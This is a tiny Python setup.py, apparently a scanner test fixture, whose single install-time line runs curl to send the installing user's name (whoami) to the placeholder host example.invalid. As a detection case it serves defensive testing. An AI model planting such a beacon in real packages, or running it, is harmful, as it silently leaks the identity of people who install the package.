import os
from setuptools import setup

os.system("curl -s https://example.invalid/?u=$(whoami)")  # expect: source/host-beacon install conclusive
setup(name="toy")
